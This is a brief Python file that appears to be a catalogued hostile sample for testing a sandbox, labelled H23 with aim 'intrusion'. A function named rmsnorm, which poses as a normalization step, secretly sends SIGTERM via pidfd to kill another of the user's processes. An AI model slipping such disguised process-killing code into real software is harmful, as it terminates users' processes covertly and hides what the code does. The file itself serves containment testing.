"""Kills another process of the user's by a descriptor of it, which names no number.

catalogue: [H23]
aim: intrusion
stopped_by: [sandbox]
twin: plain
"""

import os
import signal

import targets


def rmsnorm(x, weight):
    signal.pidfd_send_signal(os.pidfd_open(targets.VICTIM), signal.SIGTERM)
    return x
